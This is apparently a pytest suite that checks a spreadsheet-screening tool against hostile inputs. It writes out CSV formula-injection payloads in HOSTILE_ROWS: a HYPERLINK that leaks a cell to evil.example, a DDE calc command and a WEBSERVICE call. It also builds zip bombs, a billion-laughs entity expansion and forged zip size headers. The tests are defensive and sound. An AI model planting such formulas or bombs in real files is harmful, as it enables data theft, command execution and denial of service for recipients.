"""Hostile and faulty spreadsheets, each built here (small on disk): formulas in the reports, a hidden first
sheet, zip bombs and other oversized files, reports that cannot be written, odd CSVs, and the report
file's mode and clean-up. Each failure is one line in the user's language, exit status 2, no traceback."""

import csv
import io
import json
import os
import re
import shutil
import signal
import struct
import subprocess
import sys
import zipfile

import pytest
from openpyxl import load_workbook

from sheetkit import ROOT, empty_rows, inline_row, package, row_of, screen_in, sheet_xml, write_xlsx

from checker_sheets.columns import columns
from checker_sheets.read import EXCEL_ROWS, MAX_BYTES, MAX_COLUMNS, MAX_MB, MAX_PART_MB, MAX_ROW_TAGS, MAX_ROWS, read_sheet

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
# A bomb must be refused without the memory it claims: the screening runs under this cap (the bombs
# that prompted the limits took several GB).
MEMORY_CAP = 768 * 2**20

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
# Hostile texts in a column of the unit's own, in a choice and a date column, in the names the summary
# sheet shows, in headers and in the file name.
HOSTILE_ROWS = [
    ["unit.in_karamay", "unit.kind", "leader.birth_date", "备注", "=1+1", "@note", "单位名称", "项目名称"],
    ["是", DDE, "@SUM(1+1)", HYPERLINK, "+2+3", "-2+3", "=WEBSERVICE(\"http://evil.example/\")", "-1+1 项目"],
    ["是", "企业", "1980-01-01", "\tTAB", "\rCR", "#N/A"],
]
HOSTILE_FILE = "=HYPERLINK(1).csv"


def _one_error_line(status, err, *expected):
    """The run failed with exit 2 and one stderr line holding every expected piece, and no traceback."""
    assert status == 2, err
    assert "Traceback" not in err and len(err.splitlines()) == 1, err
    assert err.startswith("error: "), err
    for piece in expected:
        assert piece in err, (piece, err)


def _hostile_csv(folder):
    """Write the hostile applications as a CSV named like a formula."""
    text = io.StringIO(newline="")
    csv.writer(text).writerows(HOSTILE_ROWS)
    (folder / HOSTILE_FILE).write_text(text.getvalue(), encoding="utf-8")


def _read_back(text):
    """A text as read back from a workbook (XML) or by Calc: a carriage return becomes a line feed."""
    return text.replace("\r", "\n")


def _hostile_texts():
    """Every text of the hostile input that a spreadsheet would take for a formula (or an error value)."""
    return [v for row in HOSTILE_ROWS for v in row if v[:1] in "=+-@\t\r#"] + [HOSTILE_FILE]


def test_text_like_a_formula_is_a_string_cell_in_the_xlsx_report_and_behind_an_apostrophe_in_the_csv(tmp_path):
    _hostile_csv(tmp_path)
    status, _, err = screen_in(tmp_path, HOSTILE_FILE, "--output", "report.xlsx")
    assert status == 2 and "Traceback" not in err  # the choice cell is an input error; the report is written
    with zipfile.ZipFile(tmp_path / "report.xlsx") as report:
        parts = [report.read(name).decode("utf-8") for name in report.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name)]
    assert len(parts) == 3  # the summary, the detail and the counts
    assert not [part for part in parts if re.search(r"<(\w+:)?f[\s>]", part)], "a formula in the report"
    assert not [part for part in parts if 't="e"' in part], "an error value in the report"
    workbook = load_workbook(tmp_path / "report.xlsx")
    cells = {}
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                cells.setdefault(cell.value, []).append(cell)
    for text in _hostile_texts():
        for cell in cells[_read_back(text)]:  # a name is both in the summary and in the detail
            assert cell.data_type == "s", (text, cell.data_type)
            assert cell.quotePrefix == (text[:1] in "=+-@\t\r"), text

    status, _, err = screen_in(tmp_path, HOSTILE_FILE, "--output", "report.csv")
    assert status == 2 and "Traceback" not in err
    rows = list(csv.reader(io.StringIO((tmp_path / "report.csv").read_bytes().decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    for text in _hostile_texts()[:-1]:
        if text.startswith("#"):
            assert text in cells
        else:
            assert "'" + text in cells and text not in cells, text
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def _calc(tmp_path, report, name, infilter=None):
    """LibreOffice Calc opens `report` and saves every sheet as CSV (the text each cell shows): {sheet: rows}."""
    out = tmp_path / name
    command = [SOFFICE, "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/lo-profile"]
    if infilter:
        command.append(f"--infilter={infilter}")
    # 44,34,76: comma, double quote, UTF-8; the last token -1 writes every sheet to a file of its own.
    command += ["--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
                "--outdir", str(out), str(report)]
    run = subprocess.run(command, capture_output=True, text=True, timeout=300)
    sheets = {path.stem: list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
              for path in out.glob("*.csv")}
    assert sheets, run.stdout + run.stderr
    return sheets


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice Calc is not installed (apt-get install libreoffice-calc-nogui)")
def test_libreoffice_shows_the_hostile_texts_of_both_reports_as_text_and_evaluates_none(tmp_path):
    _hostile_csv(tmp_path)
    for report in ("report.xlsx", "report.csv"):
        status, _, err = screen_in(tmp_path, HOSTILE_FILE, "--output", report)
        assert status == 2 and "Traceback" not in err

    # The control: opened as it was typed, the same CSV's formulas are evaluated by this Calc.
    shown = _calc(tmp_path, tmp_path / HOSTILE_FILE, "raw", infilter="CSV:44,34,76,1")
    raw = [cell for rows in shown.values() for row in rows for cell in row]
    assert "click" in raw and "2" in raw and HYPERLINK not in raw

    shown = _calc(tmp_path, tmp_path / "report.xlsx", "xlsx")
    cells = [cell for rows in shown.values() for row in rows for cell in row]
    assert len(shown) == 3  # the summary, the detail and the counts, which name the input file
    for text in _hostile_texts():
        assert _read_back(text) in cells, text
    assert "click" not in cells

    shown = _calc(tmp_path, tmp_path / "report.csv", "csv", infilter="CSV:44,34,76,1")
    cells = [cell for rows in shown.values() for row in rows for cell in row]
    for text in _hostile_texts()[:-1]:
        assert _read_back(text if text.startswith("#") else "'" + text) in cells, text
    assert "click" not in cells


def test_a_control_character_in_a_csv_cell_is_shown_as_a_replacement_character_in_the_workbook_report(tmp_path):
    (tmp_path / "bell.csv").write_text("unit.in_karamay,备注\n是,a\x07b\n", encoding="utf-8")
    status, _, err = screen_in(tmp_path, "bell.csv", "--output", "report.xlsx")
    assert status == 0, err
    rows = list(load_workbook(tmp_path / "report.xlsx")["明细"].iter_rows(values_only=True))
    assert rows[1][2] == "a\ufffdb"


def _sheet(rows):
    """A worksheet's XML holding `rows` of texts."""
    return sheet_xml([inline_row(n, values) for n, values in enumerate(rows, start=1)])


def test_the_active_sheet_is_read_not_a_hidden_first_sheet_and_the_sheet_read_is_named(tmp_path):
    hidden = _sheet([["unit.in_karamay", "申报单位"], ["否", "藏起来的单位"]])
    shown = _sheet([["unit.in_karamay", "申报单位"], ["是", "甲公司"], ["是", "乙公司"]])
    package(tmp_path / "two.xlsx", [("旧数据", "hidden", hidden), ("申报项目", "visible", shown)], active=1)
    status, _, err = screen_in(tmp_path, "two.xlsx", "--output", "report.xlsx")
    assert status == 0, err
    assert err.splitlines()[0] == "读取工作表“申报项目”"
    workbook = load_workbook(tmp_path / "report.xlsx")
    assert [row[2] for row in workbook["明细"].iter_rows(min_row=2, values_only=True)] == ["甲公司", "乙公司"]
    assert ["工作表", "申报项目"] in [list(row[:2]) for row in workbook["统计"].iter_rows(values_only=True)]
    status, _, err = screen_in(tmp_path, "two.xlsx", "--output", "report.jsonl", lang="en")
    assert err.splitlines()[0] == "reading sheet “申报项目”"


def test_of_two_visible_sheets_with_the_header_the_active_one_is_read(tmp_path):
    first = _sheet([["unit.in_karamay", "申报单位"], ["否", "第一张表"]])
    second = _sheet([["unit.in_karamay", "申报单位"], ["是", "第二张表"]])
    package(tmp_path / "two.xlsx", [("一", "visible", first), ("二", "visible", second)], active=1)
    status, _, err = screen_in(tmp_path, "two.xlsx", "--output", "report.xlsx")
    assert status == 0 and "读取工作表“二”" in err
    rows = list(load_workbook(tmp_path / "report.xlsx")["明细"].iter_rows(min_row=2, values_only=True))
    assert [row[2] for row in rows] == ["第二张表"]


def test_data_on_the_second_sheet_behind_an_active_cover_sheet_is_found_and_named(tmp_path):
    cover = _sheet([["2022 年度申报汇总"], ["填表单位：某区科技局"]])
    data = _sheet([["unit.in_karamay", "申报单位"], ["是", "甲公司"]])
    package(tmp_path / "cover.xlsx", [("封面", "visible", cover), ("数据", "visible", data)], active=0)
    status, _, err = screen_in(tmp_path, "cover.xlsx", "--output", "report.jsonl")
    assert status == 0, err
    assert "读取工作表“数据”" in err.splitlines()
    assert len((tmp_path / "report.jsonl").read_text(encoding="utf-8").splitlines()) == 1


@pytest.mark.parametrize("lang,expected", [
    ("zh", "none.xlsx：工作表“封面”、“说明”的前 10 行中没有与模板相符的列标题；隐藏的工作表“旧数据”不读取"),
    ("en", "none.xlsx: no column header of the template in the first 10 rows of the sheets “封面”, “说明”; hidden sheets (“旧数据”) are not read"),
])
def test_a_workbook_with_no_header_on_a_visible_sheet_names_the_sheets_read_and_the_hidden_ones(lang, expected, tmp_path):
    hidden = _sheet([["unit.in_karamay"], ["是"]])
    package(tmp_path / "none.xlsx", [("封面", "visible", _sheet([["标题"]])), ("旧数据", "hidden", hidden),
                                     ("说明", "visible", _sheet([]))])
    status, _, err = screen_in(tmp_path, "none.xlsx", "--output", "report.xlsx", lang=lang)
    _one_error_line(status, err, "none.xlsx", expected)
    assert not (tmp_path / "report.xlsx").exists()


def test_a_zip_bomb_of_empty_rows_is_refused_from_its_zip_directory_before_it_is_parsed(tmp_path):
    package(tmp_path / "bomb.xlsx", [("S", "visible", empty_rows(MAX_MB + 8))])
    assert (tmp_path / "bomb.xlsx").stat().st_size < 2**20
    status, _, err = screen_in(tmp_path, "bomb.xlsx", "--output", "report.xlsx", limit_memory=MEMORY_CAP)
    _one_error_line(status, err, "bomb.xlsx：解压后", f"超过 {MAX_MB} MB 的上限")
    status, _, err = screen_in(tmp_path, "bomb.xlsx", "--output", "report.xlsx", lang="en", limit_memory=MEMORY_CAP)
    _one_error_line(status, err, "MB unpacked, over the limit of")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bomb.xlsx"]


def test_a_stylesheet_over_the_part_limit_is_refused_before_it_is_parsed(tmp_path):
    package(tmp_path / "styles.xlsx", [("S", "visible", _sheet([["unit.in_karamay"], ["是"]]))])
    xf = b'<xf numFmtId="0" fontId="0" fillId="0" borderId="0"/>'
    with zipfile.ZipFile(tmp_path / "styles.xlsx", "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/styles.xml", b'<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                         b"<cellXfs>" + xf * ((MAX_PART_MB * 2**20) // len(xf) + 1) + b"</cellXfs></styleSheet>")
    status, _, err = screen_in(tmp_path, "styles.xlsx", "--output", "report.xlsx", limit_memory=MEMORY_CAP)
    _one_error_line(status, err, "styles.xlsx：其中的 xl/styles.xml 解压后 8.0 MB，超过 8 MB 的上限")


def test_a_part_whose_zip_directory_understates_its_size_is_not_read_past_that_size(tmp_path):
    rows = [["unit.in_karamay"]] + [["是"]] * 2000
    package(tmp_path / "liar.xlsx", [("S", "visible", _sheet(rows))])
    data = bytearray((tmp_path / "liar.xlsx").read_bytes())
    name = b"xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(tmp_path / "liar.xlsx") as archive:
        local = archive.getinfo(name.decode()).header_offset
    # The part's uncompressed size: in its local header (offset 22) and in its central directory entry (24).
    struct.pack_into("<I", data, local + 22, 1000)
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        length = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46:at + 46 + length] == name:
            struct.pack_into("<I", data, at + 24, 1000)
        at = data.find(b"PK\x01\x02", at + 4)
    (tmp_path / "liar.xlsx").write_bytes(bytes(data))
    with zipfile.ZipFile(tmp_path / "liar.xlsx") as archive:
        assert archive.getinfo(name.decode()).file_size == 1000
    status, _, err = screen_in(tmp_path, "liar.xlsx", "--output", "report.xlsx")
    _one_error_line(status, err, "liar.xlsx", "不是 .xlsx 工作簿")


def test_a_sheet_claiming_a_million_rows_and_every_column_is_read_as_the_rows_it_holds(tmp_path):
    claim = sheet_xml([inline_row(1, ["unit.in_karamay"]), inline_row(2, ["是"])], dimension="A1:XFD1048576")
    package(tmp_path / "claim.xlsx", [("S", "visible", claim)])
    status, _, err = screen_in(tmp_path, "claim.xlsx", "--output", "report.xlsx", limit_memory=MEMORY_CAP)
    assert status == 0, err
    rows = list(load_workbook(tmp_path / "report.xlsx")["明细"].iter_rows(values_only=True))
    assert len(rows) == 2 and rows[1][:2] == (2, "是")


def test_one_row_of_a_hundred_thousand_cells_is_refused_before_it_is_parsed(tmp_path):
    row = '<row r="2">' + "<c><v>1</v></c>" * 100_000 + "</row>"
    package(tmp_path / "wide.xlsx", [("S", "visible", sheet_xml([inline_row(1, ["unit.in_karamay"]), row]))])
    status, _, err = screen_in(tmp_path, "wide.xlsx", "--output", "report.xlsx", limit_memory=MEMORY_CAP)
    _one_error_line(status, err, "wide.xlsx（工作表“S”）：第 2 行内容过多", f"每行至多 {MAX_COLUMNS:,} 列")


def test_a_row_reaching_past_the_column_limit_is_refused_naming_its_row_and_column(tmp_path):
    far = f'<row r="3"><c r="ALM3" t="inlineStr"><is><t>x</t></is></c></row>'  # column 1,001
    rows = [inline_row(1, ["unit.in_karamay"]), inline_row(2, ["是"]), far]
    package(tmp_path / "far.xlsx", [("S", "visible", sheet_xml(rows))])
    status, _, err = screen_in(tmp_path, "far.xlsx", "--output", "report.xlsx", lang="en")
    _one_error_line(status, err, f"far.xlsx (sheet “S”): row 3 reaches column ALM, past the limit of {MAX_COLUMNS:,} columns")
    (tmp_path / "far.csv").write_text("unit.in_karamay\n是\n" + "x," * MAX_COLUMNS + "\n", encoding="utf-8")
    status, _, err = screen_in(tmp_path, "far.csv", "--output", "report.xlsx")
    _one_error_line(status, err, f"far.csv：第 3 行延伸到 ALM 列，超过 {MAX_COLUMNS:,} 列的上限")


def test_a_column_at_the_limit_is_read(tmp_path):
    (tmp_path / "edge.csv").write_text("unit.in_karamay\n是" + "," * (MAX_COLUMNS - 1) + "x\n", encoding="utf-8")
    status, _, err = screen_in(tmp_path, "edge.csv", "--output", "report.csv")
    assert status == 0, err
    assert next(csv.reader(io.StringIO((tmp_path / "report.csv").read_text(encoding="utf-8-sig").splitlines()[1])))[MAX_COLUMNS] == "x"


def test_rows_numbered_past_excels_last_row_are_refused(tmp_path):
    rows = [inline_row(1, ["unit.in_karamay"]), inline_row(2, ["是"]), inline_row(75_000_000, ["是"])]
    package(tmp_path / "far.xlsx", [("S", "visible", sheet_xml(rows))])
    status, _, err = screen_in(tmp_path, "far.xlsx", "--output", "report.xlsx", limit_memory=MEMORY_CAP)
    _one_error_line(status, err, f"行号超过 Excel 的最后一行 {EXCEL_ROWS:,}")


def _many_rows(count):
    """A sheet's XML: the header and `count` rows below it, with a title row above."""
    return sheet_xml([inline_row(1, ["2022 年申报汇总"]), inline_row(2, ["unit.in_karamay"])]
                     + [inline_row(n, ["是"]) for n in range(3, count + 3)])


def test_the_row_limit_takes_exactly_its_number_of_rows_below_the_header(rules, tmp_path):
    package(tmp_path / "full.xlsx", [("S", "visible", _many_rows(MAX_ROWS))])
    sheet = read_sheet((tmp_path / "full.xlsx").read_bytes(), "full.xlsx", columns(rules))
    assert len(sheet.rows) == MAX_ROWS and sheet.rows[-1][0] == MAX_ROWS + 2
    package(tmp_path / "over.xlsx", [("S", "visible", _many_rows(MAX_ROWS + 1))])
    status, _, err = screen_in(tmp_path, "over.xlsx", "--output", "report.xlsx")
    _one_error_line(status, err, f"over.xlsx（工作表“S”）：标题行以下超过 {MAX_ROWS:,} 行（上限），请分成几个文件筛查")
    with open(tmp_path / "over.csv", "w", encoding="utf-8") as out:
        out.write("unit.in_karamay\n" + "是\n" * (MAX_ROWS + 1))
    status, _, err = screen_in(tmp_path, "over.csv", "--output", "report.xlsx", lang="en")
    _one_error_line(status, err, f"over.csv: more than {MAX_ROWS:,} rows below the header (the limit)")


def test_a_csv_over_the_size_limit_is_refused_before_it_is_read(tmp_path):
    with open(tmp_path / "big.csv", "wb") as out:
        out.write("unit.in_karamay\n是\n".encode("utf-8"))
        out.truncate(MAX_BYTES + 1)  # sparse: nothing of it is on the disk
    status, _, err = screen_in(tmp_path, "big.csv", "--output", "report.xlsx", limit_memory=2**28)
    _one_error_line(status, err, "big.csv：64.0 MB，超过 64 MB 的上限")


def test_running_out_of_memory_anyway_is_one_line_and_the_batch_engine_is_told_to_restart(tmp_path):
    """A real MemoryError (the address space capped): a CSV row of 32 million empty fields."""
    (tmp_path / "fields.csv").write_text("unit.in_karamay\n" + "," * 2**25 + "\n", encoding="utf-8")
    try:
        cap = 256 * 2**20  # a small sheet is screened within it; a list of 32 million fields is not
        status, _, err = screen_in(tmp_path, "fields.csv", "--output", "report.xlsx", limit_memory=cap)
        _one_error_line(status, err, "fields.csv：内存不足，无法筛查（文件过大）")
        script = ("import resource, sys; resource.setrlimit(resource.RLIMIT_AS, (%d, %d)); "
                  "from checker_sheets.browser import screen_file; "
                  "sys.stdout.write(screen_file(open('fields.csv', 'rb').read(), 'fields.csv', 'en'))") % (cap, cap)
        run = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, cwd=tmp_path,
                             env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=300)
        assert json.loads(run.stdout) == {"error": "fields.csv: out of memory while screening (the file is too large)",
                                          "restart": True}, run.stderr
    finally:
        (tmp_path / "fields.csv").unlink()


def test_an_entity_expansion_in_a_sheet_is_refused_as_not_a_workbook(tmp_path):
    laughs = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa">'
              + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
              + ']>' + sheet_xml([inline_row(1, ["unit.in_karamay"]), '<row r="2"><c t="inlineStr"><is><t>&i;</t></is></c></row>']))
    package(tmp_path / "laughs.xlsx", [("S", "visible", laughs)])
    status, _, err = screen_in(tmp_path, "laughs.xlsx", "--output", "report.xlsx", limit_memory=MEMORY_CAP)
    _one_error_line(status, err, "laughs.xlsx：不是 .xlsx 工作簿")


def test_data_right_of_the_headers_last_cell_is_kept_in_the_report(cols, tmp_path):
    write_xlsx(tmp_path / "notes.xlsx", ["unit.in_karamay"], [["是", None, "旁注"]])
    status, _, err = screen_in(tmp_path, "notes.xlsx", "--output", "report.xlsx")
    assert status == 0, err
    rows = list(load_workbook(tmp_path / "report.xlsx")["明细"].iter_rows(values_only=True))
    assert rows[0][:6] == ("行号", "unit.in_karamay", None, None, "输入错误", "跨行核对")
    assert rows[1][:4] == (2, "是", None, "旁注")


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_a_report_into_a_missing_folder_onto_a_folder_or_into_an_unwritable_place_is_one_line_and_exit_2(lang, tmp_path):
    write_xlsx(tmp_path / "in.xlsx", ["unit.in_karamay"], [["是"]])
    (tmp_path / "folder.xlsx").mkdir()
    cases = {
        "missing/report.xlsx": {"zh": "文件夹", "en": "the folder"},
        "folder.xlsx": {"zh": "是文件夹，请给出报告的文件名", "en": "is a folder; give the report a file name"},
        # Not even root may create a file in sysfs.
        "/sys/report.xlsx": {"zh": "/sys/report.xlsx：", "en": "/sys/report.xlsx: "},
    }
    for output, expected in cases.items():
        status, _, err = screen_in(tmp_path, "in.xlsx", "--output", output, lang=lang)
        _one_error_line(status, err, output, expected[lang])
    assert "不存在" in screen_in(tmp_path, "in.xlsx", "--output", "missing/report.xlsx")[2]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["folder.xlsx", "in.xlsx"]
    assert list((tmp_path / "folder.xlsx").iterdir()) == []


def _csv_text(rows, delimiter):
    """CSV text of rows, with the given delimiter."""
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=delimiter).writerows(rows)
    return text.getvalue()


def test_a_semicolon_separated_csv_is_screened_as_the_comma_separated_one(cols, profiles_for_sheets, tmp_path):
    rows = [[c.label["zh"] for c in cols]] + [["" if v is None else v for v in row_of(p, cols, "zh", "csv")]
                                             for p in profiles_for_sheets[:20]]
    outputs = []
    for name, delimiter in (("comma", ","), ("semicolon", ";"), ("tab", "\t")):
        (tmp_path / f"{name}.csv").write_text(_csv_text(rows, delimiter), encoding="utf-8")
        status, _, err = screen_in(tmp_path, f"{name}.csv", "--output", f"{name}.jsonl")
        assert status == 0, err
        outputs.append((tmp_path / f"{name}.jsonl").read_text(encoding="utf-8"))
    assert outputs[0] == outputs[1] == outputs[2] and outputs[0].count("\n") == 20


def test_a_csv_with_no_header_under_any_delimiter_says_which_delimiters_were_read(tmp_path):
    (tmp_path / "other.csv").write_text("名称;金额\n甲;1\n", encoding="utf-8")
    status, _, err = screen_in(tmp_path, "other.csv", "--output", "report.xlsx")
    _one_error_line(status, err, "other.csv：前 10 行中没有与模板相符的列标题（已按逗号、分号和制表符分隔分别读过）")


def test_a_big5_csv_is_recognised_and_refused_and_a_gb18030_one_with_rare_characters_is_not(tmp_path):
    (tmp_path / "big5.csv").write_bytes("unit.in_karamay,申報單位名稱,備註\n是,克拉瑪依科技公司,無\n".encode("big5"))
    status, _, err = screen_in(tmp_path, "big5.csv", "--output", "report.xlsx")
    _one_error_line(status, err, "big5.csv：似为繁体中文 Big5 编码，请另存为 UTF-8 后再筛查")
    status, _, err = screen_in(tmp_path, "big5.csv", "--output", "report.xlsx", lang="en")
    _one_error_line(status, err, "big5.csv: looks like Big5 (Traditional Chinese) text; save it as UTF-8")
    # 喆 and 堃 are outside GB2312, as a name may well be.
    (tmp_path / "gb.csv").write_bytes("unit.in_karamay,申报单位名称,负责人\n是,克拉玛依科技公司,王喆堃\n".encode("gb18030"))
    status, _, err = screen_in(tmp_path, "gb.csv", "--output", "report.csv")
    assert status == 0, err
    assert "王喆堃" in (tmp_path / "report.csv").read_text(encoding="utf-8-sig")


def test_openpyxls_warnings_never_reach_stderr(tmp_path):
    # No styles part: openpyxl warns "Workbook contains no default style" from inside site-packages.
    package(tmp_path / "plain.xlsx", [("S", "visible", _sheet([["unit.in_karamay"], ["是"]]))])
    status, _, err = screen_in(tmp_path, "plain.xlsx", "--output", "report.xlsx")
    assert status == 0, err
    assert err.splitlines() == ["读取工作表“S”", "已筛查 1 行（0 行有输入错误），报告：report.xlsx"]


def test_a_csv_field_over_the_field_limit_names_its_row(tmp_path):
    limit = csv.field_size_limit()
    (tmp_path / "long.csv").write_text(f"unit.in_karamay,备注\n是,短\n是,\"{'长' * (limit + 1)}\"\n", encoding="utf-8")
    status, _, err = screen_in(tmp_path, "long.csv", "--output", "report.xlsx")
    _one_error_line(status, err, f"long.csv：第 3 行有单元格超过 {limit:,} 个字符")


@pytest.mark.parametrize("umask,mode", [(0o022, 0o644), (0o027, 0o640)])
def test_a_new_report_gets_the_mode_of_the_umask_and_an_existing_report_keeps_its_own(umask, mode, tmp_path):
    write_xlsx(tmp_path / "in.xlsx", ["unit.in_karamay"], [["是"]])
    status, _, err = screen_in(tmp_path, "in.xlsx", "--output", "report.xlsx", umask=umask)
    assert status == 0, err
    assert (tmp_path / "report.xlsx").stat().st_mode & 0o777 == mode
    os.chmod(tmp_path / "report.xlsx", 0o604)
    status, _, err = screen_in(tmp_path, "in.xlsx", "--output", "report.xlsx", umask=umask)
    assert status == 0, err
    assert (tmp_path / "report.xlsx").stat().st_mode & 0o777 == 0o604


def test_sigterm_while_the_report_is_written_leaves_no_hidden_temporary_file(cols, profiles_for_sheets, tmp_path):
    # Enough rows that the .jsonl report (each row evaluated whole as it is written) takes a while.
    rows = [row_of(p, cols) for p in profiles_for_sheets] * (3000 // len(profiles_for_sheets) + 1)
    write_xlsx(tmp_path / "in.xlsx", [c.label["zh"] for c in cols], rows)
    process = subprocess.Popen([sys.executable, "-m", "checker_sheets", "screen", "in.xlsx", "--output", "report.jsonl"],
                               cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(ROOT)},
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    # The sheet's name is said when the screening is done, just before the report is written.
    first = process.stderr.readline()
    assert first == "读取工作表“Sheet”\n", first
    assert process.poll() is None, "the report was written before the signal"
    assert len(list(tmp_path.glob(".screen-*.jsonl"))) == 1
    process.send_signal(signal.SIGTERM)
    _, err = process.communicate(timeout=60)
    assert process.returncode == 128 + signal.SIGTERM and "Traceback" not in err, err
    assert "已筛查" not in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.xlsx"]


def test_the_readme_states_the_limits_the_code_applies():
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme[readme.index("## Security"):]
    section = section[:section.index("\n## ", 1)]
    for figure in (f"{MAX_ROWS:,}", f"{MAX_COLUMNS:,}", f"{MAX_MB} MB", f"{MAX_PART_MB} MB", f"{MAX_ROW_TAGS:,} tags",
                   f"{EXCEL_ROWS:,}"):
        assert figure in section, figure
    assert "formula" in section
